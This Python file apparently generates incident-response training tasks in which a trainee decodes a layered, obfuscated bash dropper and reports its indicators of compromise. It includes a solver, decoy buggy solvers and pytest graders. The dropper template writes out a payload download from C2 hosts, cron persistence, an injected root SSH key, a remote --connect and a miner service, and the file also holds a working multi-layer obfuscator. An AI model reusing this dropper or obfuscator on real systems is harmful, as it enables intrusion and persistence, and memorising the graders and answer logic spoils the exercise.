"""Security: peel a layered, obfuscated shell dropper found on a compromised host (base64, reversed text,
hex, gzip, rot13, split variables used out of order, printf escapes, XOR in a Python one-liner) and report
its indicators of compromise: URLs, network endpoints, files written, the cron persistence line, the number
of layers and the hash of the innermost script. Commented-out (dead) indicators are not indicators.
"""

from __future__ import annotations

import base64
import codecs
import gzip
import hashlib
import json
import random

from termigen.families import register
from termigen.families.base import Draft, Family, dedent, pytest_file, script
from termigen.task import Decoy, Environment, File

TLDS = ["xyz", "top", "icu", "site", "online", "club", "info", "live"]
WORDS = ["update", "cdn", "static", "sync", "metrics", "api", "cloud", "mirror", "assets", "img", "telemetry", "edge"]
NAMES = ["kworkerd", "sysupdate", "dbus-helper", "kthreadd2", "xmrig", "systemd-logind2", "crond64", "irqbalanced"]
DIRS = ["/tmp/.X11-unix/.cache", "/dev/shm/.s", "/var/tmp/.font-unix", "/usr/local/lib/.udev", "/var/lib/.dpkg-cache"]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64)", "curl/7.88.1", "Wget/1.21.3", "python-requests/2.31.0"]
SAMPLES = ["/var/www/html/wp-content/uploads/2023/.cache.sh", "/tmp/.ICE-unix/.x", "/dev/shm/.sysupd.sh",
           "/var/www/app/public/img/logo.png.sh", "/home/deploy/.local/share/.update"]

PROGRAM = r'''
import base64, codecs, gzip, hashlib, json, os, re, sys
BUG = sys.argv[1] if len(sys.argv) > 1 else ""
P = json.loads(os.environ["TG_PARAMS"])
text = open(P["sample"]).read()

def peel(t):
    m = re.search(r"echo '([^']*)' \| base64 -d \| gunzip", t)
    if m:
        return gzip.decompress(base64.b64decode(m.group(1))).decode()
    m = re.search(r"echo '([^']*)' \| rev \| base64 -d", t)
    if m:
        return base64.b64decode(m.group(1)[::-1]).decode()
    m = re.search(r"echo '([^']*)' \| tr 'A-Za-z' 'N-ZA-Mn-za-m' \| base64 -d", t)
    if m:
        return base64.b64decode(codecs.decode(m.group(1), "rot13")).decode()
    m = re.search(r"echo '([0-9a-f]*)' \| xxd -r -p", t)
    if m:
        return bytes.fromhex(m.group(1)).decode()
    m = re.search(r"printf '((?:\\x[0-9a-f]{2})+)'", t)
    if m:
        return bytes.fromhex(m.group(1).replace("\\x", "")).decode()
    m = re.search(r"b \^ (\d+) for b in base64\.b64decode\('([^']*)'\)", t)
    if m:
        return bytes(b ^ int(m.group(1)) for b in base64.b64decode(m.group(2))).decode()
    m = re.search(r'echo "((?:\$\w+)+)" \| base64 -d', t)
    if m:
        parts = dict(re.findall(r"(\w+)='([^']*)'", t))
        order = re.findall(r"\$(\w+)", m.group(1))
        if BUG == "split_order":
            order = list(parts)
        return base64.b64decode("".join(parts[v] for v in order)).decode()
    m = re.search(r"echo '([^']*)' \| base64 -d\)", t)
    if m:
        return base64.b64decode(m.group(1)).decode()
    return None

layers = 0
while True:
    nxt = peel(text)
    if nxt is None:
        break
    text, layers = nxt, layers + 1
    if BUG == "first_layer_only":
        break
final = text
if BUG == "counts_final":
    layers += 1

def live(t):
    if BUG == "includes_comments":
        return t
    return "\n".join(l for l in t.splitlines() if not l.lstrip().startswith("#"))

code = live(final)
blobs = []
if BUG != "misses_embedded":
    for b64, target in re.findall(r"echo '([A-Za-z0-9+/=]{40,})' \| base64 -d > (\S+)", code):
        blobs.append(live(base64.b64decode(b64).decode()))
everything = "\n".join([code] + blobs)
urls = sorted(set(re.findall(r"https?://[^\s\"'<>?]+", everything)))
ends = set()
for u in urls:
    m = re.match(r"(https?)://([^/:]+)(?::(\d+))?", u)
    if BUG == "no_default_port" and not m.group(3):
        ends.add(m.group(2))
    else:
        ends.add(f"{m.group(2)}:{m.group(3) or (443 if m.group(1) == 'https' else 80)}")
for hp in re.findall(r"--(?:connect|pool|tunnel) (\S+:\d+)", everything):
    ends.add(hp)
files = set(re.findall(r" -o (/\S+)", code)) | set(re.findall(r">>? ?(/[^\s;)&|]+)", code))
files.discard("/dev/null")
cron = re.findall(r'echo "([^"]+)"\) \| crontab -', code)
report = {"layers": layers, "final_sha256": hashlib.sha256(final.rstrip("\n").encode()).hexdigest(),
          "urls": urls, "endpoints": sorted(ends), "files": sorted(files), "cron": cron[0] if cron else None}
os.makedirs(os.path.dirname(P["report"]), exist_ok=True)
json.dump(report, open(P["report"], "w"), indent=2)
if P["level"] != "easy":
    with open(P["final_copy"], "w") as f:
        f.write(final.rstrip("\n") + "\n")
'''


def _solver(p: dict, bug: str = "") -> str:
    s = script(f"""
        mkdir -p {p['report'].rsplit('/', 1)[0]}
        file {p['sample']}
        head -c 300 {p['sample']} | base64 | head -n 2
        cat > /tmp/peel.py <<'PY'
        {{program}}
        PY
        TG_PARAMS='{json.dumps(p)}' python3 /tmp/peel.py {bug}
        jq -r '.endpoints[]' {p['report']}
    """).replace("{program}", PROGRAM.strip("\n"))
    if p["level"] != "easy":
        s += f"sha256sum {p['final_copy']}\n"
    return s


# ---- layers: each turns a script into a one-line script that rebuilds and evals it ----------------------------

def _b64(b: bytes) -> str:
    return base64.b64encode(b).decode()


def _wrap(rng: random.Random, kind: str, inner: str) -> str:
    data = inner.encode()
    if kind == "b64":
        return f"eval \"$(echo '{_b64(data)}' | base64 -d)\""
    if kind == "rev":
        return f"eval \"$(echo '{_b64(data)[::-1]}' | rev | base64 -d)\""
    if kind == "hex":
        return f"eval \"$(echo '{data.hex()}' | xxd -r -p)\""
    if kind == "gzip":
        return f"eval \"$(echo '{_b64(gzip.compress(data, mtime=0))}' | base64 -d | gunzip)\""
    if kind == "rot13":
        return f"eval \"$(echo '{codecs.encode(_b64(data), 'rot13')}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | base64 -d)\""
    if kind == "printf":
        return "eval \"$(printf '" + "".join(f"\\x{c:02x}" for c in data) + "')\""
    if kind == "xor":
        k = rng.randint(17, 250)
        t = _b64(bytes(c ^ k for c in data))
        return (f"python3 -c \"import base64,subprocess;subprocess.run(['bash','-c',"
                f"bytes(b ^ {k} for b in base64.b64decode('{t}')).decode()])\"")
    if kind == "split":
        t = _b64(data)
        n = 3
        cut = sorted(rng.sample(range(1, len(t)), n - 1))
        pieces = [t[a:b] for a, b in zip([0] + cut, cut + [len(t)])]
        names = rng.sample(["a", "b", "c", "x", "y", "z", "q", "w"], n)
        assign = list(zip(names, pieces))
        rng.shuffle(assign)  # declared in one order, used in another
        if [nm for nm, _ in assign] == names:
            assign.reverse()
        return "".join(f"{nm}='{pc}';" for nm, pc in assign) + f"eval \"$(echo \"{''.join('$' + nm for nm in names)}\" | base64 -d)\""
    raise ValueError(kind)


@register
class ObfuscatedPayload(Family):
    name = "obfuscated_payload"
    category = "security"
    description = "Decode a layered, obfuscated shell dropper and report its indicators of compromise."
    base_image = "termigen/core:1"

    def make(self, rng: random.Random, level: str) -> Draft:
        def domain():
            return f"{rng.choice(WORDS)}-{rng.choice(WORDS)}{rng.randint(1, 99)}.{rng.choice(TLDS)}"

        def ip():
            return f"{rng.choice([45, 91, 103, 139, 146, 167, 185, 193, 194, 213])}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        name = rng.choice(NAMES)
        drop = f"{rng.choice(DIRS)}/{name}"
        urls = []
        port = rng.choice([None, 8080, 8443, 2053, 443]) if level != "easy" else rng.choice([None, 443])
        scheme = "https" if port in (443, 8443, 2053) or rng.random() < 0.4 else "http"
        urls.append(f"{scheme}://{domain()}{':' + str(port) if port and port != 443 else ''}/{rng.choice(['gate', 'dl', 'x', 'update'])}.{rng.choice(['php', 'sh', 'bin'])}")
        if level != "easy":
            urls.append(f"http://{ip()}/{rng.choice(['b', 'k', 'p'])}{rng.randint(1, 9)}")
        rhost, rport = ip(), rng.choice([4444, 1337, 9001, 5555, 8888, 31337])
        minute = rng.randint(1, 59)
        cron = f"*/{rng.choice([5, 7, 10, 13, 15])} * * * * {drop} >/dev/null 2>&1" if rng.random() < 0.5 else \
               f"{minute} */{rng.choice([2, 3, 4, 6])} * * * {drop} --quiet >/dev/null 2>&1"
        key = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{rng.getrandbits(180):045x} {rng.choice(['root@kali', 'x@vps', 'u@h'])}"
        pidfile = f"/var/tmp/.{name}.pid"
        files = {drop, "/root/.ssh/authorized_keys"}
        ends = set()
        for u in urls:
            sch, rest = u.split("://", 1)
            hostport = rest.split("/", 1)[0]
            ends.add(hostport if ":" in hostport else f"{hostport}:{443 if sch == 'https' else 80}")
        ends.add(f"{rhost}:{rport}")
        L = ["#!/bin/bash", f"# {rng.choice(['system update helper', 'font cache refresh', 'log cleanup', 'dpkg maintenance'])}",
             "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"]
        if level != "easy":  # dead indicators: commented out by the author
            L.append(f"# old C2 (down since {rng.randint(2019, 2023)}): http://{domain()}/{rng.choice(['a', 'b'])}.sh")
            L.append(f"#nohup {drop} --connect {ip()}:{rng.choice([4444, 6666, 7777])} &")
        if len(urls) == 1:
            L.append(f"curl -fsSL -A \"{rng.choice(AGENTS)}\" \"{urls[0]}?h=$(hostname)\" -o {drop} || exit 0")
        else:
            L.append("for U in " + " ".join(f'"{u}"' for u in urls) + "; do")
            L.append(f"  curl -fsSL -A \"{rng.choice(AGENTS)}\" \"$U?h=$(hostname)\" -o {drop} && break")
            L.append("done")
        L.append(f"chmod +x {drop}")
        L.append(f"(crontab -l 2>/dev/null | grep -v {name}; echo \"{cron}\") | crontab -")
        L.append(f"mkdir -p /root/.ssh && echo \"{key}\" >> /root/.ssh/authorized_keys")
        L.append(f"nohup {drop} --connect {rhost}:{rport} >/dev/null 2>&1 &")
        if level != "easy":
            L.append(f"echo $! > {pidfile}")
            files.add(pidfile)
        if level == "hard":
            svc = rng.choice(["dbus-broker-helper", "systemd-journal-upload2", "network-dispatcher2", "udev-settle2"])
            pool = f"{domain()}:{rng.choice([3333, 5555, 14444, 45700])}"
            unit = dedent(f"""
                [Unit]
                Description={svc.replace('-', ' ')}
                After=network-online.target

                [Service]
                # ExecStart={drop} --pool {ip()}:3333
                ExecStart={drop} --pool {pool} --threads {rng.randint(2, 8)}
                Restart=always

                [Install]
                WantedBy=multi-user.target
            """)
            upath = f"/etc/systemd/system/{svc}.service"
            L.append(f"echo '{_b64(unit.encode())}' | base64 -d > {upath}")
            L.append(f"systemctl enable --now {svc} 2>/dev/null || true")
            files.add(upath)
            ends.add(pool)
        L.append("history -c; rm -f -- \"$0\"")
        final = "\n".join(L) + "\n"
        kinds = {"easy": ["b64", rng.choice(["rev", "hex"])],
                 "medium": ["b64", "gzip", rng.choice(["rot13", "rev"]), "hex"],
                 "hard": ["b64", "gzip", "split", "rot13", "xor", "printf"]}[level]
        if level != "easy":
            inner_order = kinds[:1] + rng.sample(kinds[1:], len(kinds) - 1)
        else:
            inner_order = kinds[:]
        if level == "hard":  # printf stays near the middle so the outer file is not enormous
            inner_order = [k for k in inner_order if k != "printf"]
            inner_order.insert(2, "printf")
        text = final
        for kind in inner_order:
            text = "#!/bin/bash\n" + _wrap(rng, kind, text) + "\n"
        sample = rng.choice(SAMPLES)
        quarantine = rng.choice(["/srv/quarantine", "/root/ir/samples", "/var/lib/ir/quarantine"]) + f"/{rng.randint(1000, 9999)}-{sample.rsplit('/', 1)[1].lstrip('.')}.txt"
        report = rng.choice(["/srv/ir/iocs.json", "/root/ir/report.json", f"/var/lib/ir/{name}-iocs.json"])
        final_copy = report.rsplit("/", 1)[0] + "/stage-final.sh"
        E = {"level": level, "report": report, "final_copy": final_copy, "layers": len(inner_order),
             "final_sha256": hashlib.sha256(final.rstrip("\n").encode()).hexdigest(), "urls": sorted(urls),
             "endpoints": sorted(ends), "files": sorted(files), "cron": cron}
        p = {"sample": quarantine, "report": report, "final_copy": final_copy, "level": level}
        names_d = [("first_layer_only", "half the job: peels one layer and reports what it sees there"),
                   ("counts_final", "counts the innermost script as one more layer"),
                   ("no_default_port", "leaves the port off endpoints taken from URLs without one")]
        if level != "easy":
            names_d.append(("includes_comments", "reports the commented-out (dead) indicators too"))
        if level == "hard":
            names_d += [("split_order", "joins the split base64 pieces in the order they are assigned"),
                        ("misses_embedded", "does not decode the embedded service unit")]
        decoys = [Decoy(name=n, description=d, script=_solver(p, n)) for n, d in names_d]
        return Draft(
            instruction=self._instruction(rng, level, sample, quarantine, report, final_copy),
            environment=Environment(base_image=self.base_image, files={quarantine: File.of(text, mode=0o444)}, workdir="/root"),
            solution=_solver(p),
            tests={"test_outputs.py": self._tests(E)},
            decoys=decoys,
            outputs=[report] + ([final_copy] if level != "easy" else []),
            tools=["mkdir", "file", "head", "base64", "cat", "python3", "jq"] + (["sha256sum"] if level != "easy" else []),
            tags=["malware-analysis", "deobfuscation", "incident-response", "bash"],
            expert_time_min={"easy": 10, "medium": 25, "hard": 45}[level],
            junior_time_min={"easy": 30, "medium": 60, "hard": 120}[level],
        )

    @staticmethod
    def _instruction(rng, level, sample, quarantine, report, final_copy) -> str:
        host = rng.choice(["web-01", "wp-prod", "shop-frontend", "jenkins-agent-3", "staging-api"])
        opener = rng.choice([
            f"During the clean-up of `{host}` we found `{sample}`, which nobody deployed.",
            f"EDR on `{host}` flagged `{sample}` as it was being run by the web server user.",
            f"A file integrity check on `{host}` turned up `{sample}`.",
        ])
        rules = [
            "A **layer** is one wrapper that rebuilds the next script and runs it (`eval`, `bash -c`, ...); count the "
            "wrappers until you reach the innermost script, which does the real work. The innermost script is not a "
            "layer.",
            "`final_sha256` is the SHA-256 of the innermost script's text, without trailing newlines.",
            "Indicators come from code that runs: lines commented out with `#` do not count. Data that the script "
            "itself decodes and writes to disk counts as code it installs.",
            "`urls`: every http(s) URL the script would fetch, exactly as written in it (without anything appended at "
            "run time).",
            "`endpoints`: every `host:port` it would connect to: the URLs' hosts (with port 80 for http and 443 for "
            "https unless the URL names one) and the addresses given to the dropped program.",
            "`files`: every file (not folder) it writes: download targets and redirection targets (`>`, `>>`), "
            "as absolute paths, except `/dev/null`.",
            "`cron`: the crontab line it installs, exactly.",
        ]
        extra = ""
        if level != "easy":
            extra = f" Also save the innermost script itself as `{final_copy}`."
        body = "\n".join(f"- {r}" for r in rules)
        return dedent(f"""
            # Decode a dropper found on `{host}`

            {opener} A read-only copy is in `{quarantine}`. It is obfuscated in several layers. Work out what it
            does **without running it** (decode it with the usual tools: `base64`, `xxd`, `gunzip`, `tr`, `rev`,
            Python, ...) and write the indicators of compromise to `{report}`:

            ```
            {{{{"layers": 0, "final_sha256": "<hex>", "urls": [], "endpoints": [], "files": [], "cron": "..."}}}}
            ```
            (lists sorted, no duplicates).{extra}

            {{body}}
        """).replace("{body}", body).replace("{{", "{").replace("}}", "}")

    @staticmethod
    def _tests(E: dict):
        header = "import hashlib, json, os\n\nimport pytest"
        body = '''
            def _report():
                assert os.path.isfile(EXPECTED["report"]), f"{EXPECTED['report']} is missing"
                return json.load(open(EXPECTED["report"]))

            def test_layers_and_final_hash():
                r = _report()
                assert r.get("layers") == EXPECTED["layers"], f"layers: {r.get('layers')!r}, expected {EXPECTED['layers']}"
                assert r.get("final_sha256") == EXPECTED["final_sha256"], "final_sha256 is not the hash of the innermost script"

            @pytest.mark.parametrize("key", ["urls", "endpoints", "files"])
            def test_indicator_lists(key):
                got = _report().get(key)
                assert isinstance(got, list), f"{key} must be a list"
                want = EXPECTED[key]
                assert sorted(set(got)) == want, f"{key}: unexpected {sorted(set(got) - set(want))}, missing {sorted(set(want) - set(got))}"
                assert len(got) == len(want), f"{key} has duplicates"

            def test_cron_line():
                got = _report().get("cron")
                assert isinstance(got, str) and got.strip() == EXPECTED["cron"], f"cron: {got!r}, expected {EXPECTED['cron']!r}"

            @pytest.mark.skipif(EXPECTED["level"] == "easy", reason="medium and hard only")
            def test_final_stage_saved():
                p = EXPECTED["final_copy"]
                assert os.path.isfile(p), f"{p} is missing"
                text = open(p, encoding="utf-8", errors="replace").read()
                assert hashlib.sha256(text.rstrip("\\n").encode()).hexdigest() == EXPECTED["final_sha256"], f"{p} is not the innermost script"
        '''
        return pytest_file(header, {"EXPECTED": E}, body)
